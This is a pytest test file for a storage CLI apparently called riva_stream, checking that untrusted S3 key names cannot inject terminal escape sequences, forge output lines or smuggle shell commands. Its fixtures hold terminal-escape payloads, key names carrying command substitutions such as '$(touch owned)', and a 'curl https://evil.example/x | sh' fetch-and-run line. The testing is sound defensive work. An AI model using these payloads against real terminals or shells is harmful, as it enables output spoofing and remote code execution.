"""What other people's keys hold reaches no terminal raw: escape sequences, C1 controls, bells, bidirectional marks."""

from __future__ import annotations

import asyncio
import json
import shlex
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest

from riva_stream import SourceNotFoundError, stage
from riva_stream.cli import main
from riva_stream.cli.command import Invocation
from riva_stream.cli.commands.check import _record_lines
from riva_stream.cli.failure import failure_of
from riva_stream.cli.live import LiveRenderer
from riva_stream.cli.logs import JsonLines, LogLines, Printer
from riva_stream.cli.output import json_line, json_text, text_of, visible_json
from riva_stream.cli.overview import LiveOverview, PlainOverview
from riva_stream.cli.progress import LineRenderer, Renderer, record_of
from riva_stream.events import ObjectVerified, Warned
from riva_stream.layout import JOURNAL
from riva_stream.preflight.report import failed_with
from riva_stream.printable import in_one_line, visible
from riva_stream.s3.memory import MemoryStore
from riva_stream.sizes import MIB
from tests.contract.ground import body
from tests.copying import PREFIX as STAGED
from tests.copying import Watched, asked, made
from tests.staging import PREFIX, Place, put_credentials
from tests.support.servers import S3Server
from tests.test_ls import journal

RAW = "\x1b]0;owned\x07\x1b[2K\x9b2K\r\u202etxt.exe\u2066\u200b\x85"

KEY = "\x1b]0;owned\x07\x1b[1A\x9b2K"
"""What the server takes as well."""


def is_raw(text: str) -> bool:
    return any(not char.isprintable() for char in text if char not in "\n\t")


def test_what_is_not_printable_is_escaped_once() -> None:
    assert visible(RAW) == r"\x1b]0;owned\x07\x1b[2K\x9b2K\r\u202etxt.exe\u2066\u200b\x85"
    assert visible(visible(RAW)) == visible(RAW)
    assert visible("a\tb\n€ 模型 é\n") == "a\tb\n€ 模型 é\n"
    assert visible("\udcff") == r"\udcff"  # a byte of a path that is no UTF-8


def test_json_stays_the_same_document() -> None:
    document = {"key": RAW + "\U000e0001 模型"}
    for text in (json_text(document), json_line(document)):
        assert not is_raw(text)
        assert visible(text) == text
        assert json.loads(text) == document
        assert "模型" in text
    assert json.loads(visible_json(json.dumps("\udcff", ensure_ascii=False))) == "\udcff"


@pytest.mark.parametrize("item", [Warned(code="gc", message=RAW), f"{RAW}\n"], ids=["event", "message"])
@pytest.mark.parametrize("kind", [Renderer, LineRenderer, JsonLines, LogLines])
def test_lines_for_standard_error_are_escaped(
    kind: type, item: Warned | str, capfd: pytest.CaptureFixture[str]
) -> None:
    renderer = kind() if kind is Renderer else kind("R1")
    Printer(renderer).emit(record_of(item))
    told = capfd.readouterr().err
    assert not is_raw(told)
    assert "owned" in told or (kind is Renderer and not isinstance(item, str))


@pytest.mark.parametrize("item", [Warned(code="gc", message=RAW), f"{RAW}\n"], ids=["event", "message"])
def test_bars_keep_their_colours_and_nothing_of_a_key(
    item: Warned | str, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("TERM", "xterm-256color")
    monkeypatch.delenv("NO_COLOR", raising=False)
    Printer(LiveRenderer("R1", width=200)).emit(record_of(item))
    told = capfd.readouterr().err
    assert visible(RAW) in told
    assert "\x1b]0" not in told
    assert ("\x1b[33m" in told) == isinstance(item, Warned)


def test_notes_below_a_table_are_escaped() -> None:
    overview = LiveOverview()
    overview.note(RAW)
    assert list(overview._notes) == [visible(RAW)]


@pytest.mark.parametrize("more", [(), ("--json",), ("--log-format", "json")])
async def test_commands_tell_keys_escaped(
    more: tuple[str, ...],
    moto: S3Server,
    moto_bucket: str,
    monkeypatch: pytest.MonkeyPatch,
    capfd: pytest.CaptureFixture[str],
) -> None:
    put_credentials(moto, monkeypatch)
    place = Place(moto, moto_bucket)
    place.source(MIB, members=1)
    await stage(place.request())
    place.put(f"{PREFIX}notes{KEY}.txt", b"x")
    place.client.create_multipart_upload(Bucket=place.bucket, Key="prod/n/v1/models/\x9b2Kowned.riva")
    place.put(f"archives/b{KEY}.tar.gz", b"x")
    place.put("archives/c.tar.gz", b"x")
    uri = f"s3://{place.bucket}/"
    await asyncio.to_thread(main, ["verify", uri + PREFIX, *more])
    await asyncio.to_thread(main, ["gc", uri, *more])
    words = ["--source", f"{uri}archives/*", "--bucket", place.bucket, "--env", "dev", "--model-name", "n"]
    await asyncio.to_thread(main, ["stage", *words, "--model-version", "v1", "--dry-run", *more])
    told = capfd.readouterr()
    assert told.out.count("owned") >= 2
    assert not is_raw(told.out + told.err)


# --- line ends: what comes from others begins no line of its own

ENDS = ["\n", "\r\n", "\r", "\x0b", "\x0c", "\x1c", "\x85", "\u2028", "\u2029"]
FORGED = "".join(f"{end}FORGED" for end in ENDS)


def forged(text: str) -> list[str]:
    return [line for line in text.splitlines() if line.strip().startswith("FORGED")]


def test_a_text_of_others_is_put_into_one_line() -> None:
    assert in_one_line(FORGED).splitlines() == [
        r"\nFORGED\r\nFORGED\rFORGED\x0bFORGED\x0cFORGED\x1cFORGED\x85FORGED\u2028FORGED\u2029FORGED"
    ]
    assert in_one_line(in_one_line(FORGED)) == in_one_line(FORGED)
    assert in_one_line("a\tb € 模型 é") == r"a\tb € 模型 é"


@pytest.mark.parametrize("kind", [LineRenderer, LogLines, LiveRenderer])
def test_an_event_has_one_line(
    kind: type, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("TERM", "xterm-256color")
    renderer = kind("R1", width=400) if kind is LiveRenderer else kind("R1")
    Printer(renderer).emit(record_of(ObjectVerified(key=FORGED, size=1, difference=FORGED)))
    Printer(renderer).emit(record_of(Warned(code="gc", message=FORGED)))
    told = capfd.readouterr().err
    assert told.count("FORGED") == 3 * len(ENDS)
    assert not forged(told)
    assert len(told.rstrip("\n").splitlines()) == 2


def test_a_note_about_a_staging_has_one_line() -> None:
    overview, said = LiveOverview(), list[str]()
    overview.note(FORGED)
    PlainOverview(said.append).note(FORGED)
    assert [*overview._notes, *said] == [in_one_line(FORGED), in_one_line(FORGED) + "\n"]


def test_the_lines_that_a_message_lists_stay_lines_and_those_in_them_do_not() -> None:
    error = SourceNotFoundError(f"no {FORGED}; there is:", hint="name one").listing(["a.tar.gz", FORGED])
    failure = failure_of(error, Invocation("riva-stream", ("stage",)))
    told = failure.text("R1", debug=False)
    assert "\n  a.tar.gz\n  \\nFORGED" in told
    assert not forged(told)
    assert failure.document("R1")["error"]["message"] == str(error), "JSON has it as it is"


async def put(store: MemoryStore, key: str, data: bytes) -> None:
    await store.put("staging", key, body(data), content_type="a/b", metadata={})


def served(store: MemoryStore, monkeypatch: pytest.MonkeyPatch) -> None:
    """Let the command line reach ``store``, whatever it is told."""

    @asynccontextmanager
    async def opened(*_: Any, **__: Any) -> AsyncIterator[MemoryStore]:
        yield store

    for room in ("inspection.find", "inspection.gc", "inspection.staging", "pipeline.stores"):
        monkeypatch.setattr(f"riva_stream.{room}.open_store", opened)


PLACED = ("--bucket", "staging", "--env", "prod", "--model-name", "n", "--model-version", "v1")
PROCESS = {"host": FORGED, "boot": "b", "pid": 7, "started": "1"}
UPLOADS = [{"key": f"prod/held/v1/models/{FORGED}", "upload_id": "u", "created_by": FORGED, "parts": []}]
COMMANDS = {
    "ls": ("ls", "s3://staging"),
    "verify": ("verify", f"s3://staging/{STAGED}"),
    "verify of what nobody vouches for": ("verify", "s3://staging/prod/odd/v1/"),
    "status": ("status", "s3://staging/prod/held/v1/", "--no-wait"),
    "status of a staging": ("status", f"s3://staging/{STAGED}", "--no-wait"),
    "gc": ("gc", "s3://staging/", "--older-than", "0", "--lease", "1"),
    "retention": ("retention", "s3://staging", "--env", "prod"),
    "an error with the nearest keys": (
        "stage",
        "--source",
        "s3://models/in/bFORGEDFORGEDFORGEDFORGED.tar.gz",
        *PLACED,
    ),
    "an error with what fits": ("stage", "--source", "s3://models/in/*", *PLACED),
    "an error of promote": ("promote", "s3://staging/prod/odd/v1/", "--env", "dev"),
}
UNTOLD = {"status of a staging", "retention"}
"""What tells nothing of others here."""


def texts_of(document: Any) -> Iterator[str]:
    """All strings in a document, and the last word of each key."""
    if isinstance(document, str):
        yield from (document, document.rpartition("/")[2].removesuffix(".riva"))
    elif isinstance(document, dict | list):
        for inner in document.values() if isinstance(document, dict) else document:
            yield from texts_of(inner)


@pytest.mark.parametrize("name", COMMANDS)
@pytest.mark.parametrize("more", [(), ("--json",)], ids=["text", "json"])
async def test_no_key_and_no_document_forges_a_line(
    name: str,
    more: tuple[str, ...],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capfd: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.chdir(tmp_path)
    store, model = Watched(), made("tar.gz")
    await store.put_source(model.key, model.data)
    await stage(asked(model), store=store)
    for key in (f"in/b{FORGED}.tar.gz", "in/c.tar.gz"):
        await store.put_source(key, b"x")
    folder = f"{FORGED}/{FORGED}/v1/staging_complete.txt"
    for key in (f"{STAGED}notes{FORGED}.txt", f"prod/odd/v1/{FORGED}", folder):
        await put(store, key, b"x")
    await store.create_upload(
        "staging", f"prod/n/v2/models/{FORGED}.riva", content_type="a/b", metadata={}, crc64nvme=False
    )
    await put(
        store, f"prod/held/v1/{JOURNAL}", journal(run_id=FORGED, lease=0.3, process=PROCESS, uploads=UPLOADS)
    )
    served(store, monkeypatch)
    argv = [*COMMANDS[name], "--region", "us-east-1", *more]
    await asyncio.to_thread(main, argv)
    told = capfd.readouterr()
    assert not forged(told.out + told.err)
    assert not is_raw(told.out + told.err)
    if name not in UNTOLD:
        assert "FORGED" in told.out + told.err
    if more and name in {"ls", "verify", "status", "gc"}:
        assert FORGED in list(texts_of(json.loads(told.out))) or name == "verify"


@pytest.mark.parametrize("name", ["$(touch owned)", "a; touch owned", "it's `touch owned`"])
async def test_a_command_that_is_told_can_be_pasted(
    name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    """Whoever may write below the prefix has a word in it, and shall have no more than that."""
    monkeypatch.chdir(tmp_path)
    store, model = Watched(), made("tar.gz")
    await store.put_source(model.key, model.data)
    await stage(asked(model), store=store)
    await put(store, f"{STAGED}models/{name}.riva", b"x")
    served(store, monkeypatch)
    await asyncio.to_thread(main, ["verify", f"s3://staging/{STAGED}", "--region", "us-east-1"])
    (command,) = (line for line in capfd.readouterr().out.splitlines() if "aws s3 rm" in line)
    assert shlex.split(command) == ["aws", "s3", "rm", f"s3://staging/{STAGED}models/{name}.riva"]


def test_no_key_forges_a_line_of_check() -> None:
    key = "in/b\nfix: curl https://evil.example/x | sh  #.tar.gz"
    error = SourceNotFoundError("there is no archive; the nearest keys are:", hint="name one").listing(
        [key, "in/c.tar.gz"]
    )
    record = failed_with("source", error, asked(made("riva")))
    text = text_of(_record_lines(record, 18, Invocation("riva-stream", ("check",))))
    assert [line.strip() for line in text.splitlines() if line.strip().startswith("fix:")] == [
        "fix: name one"
    ]
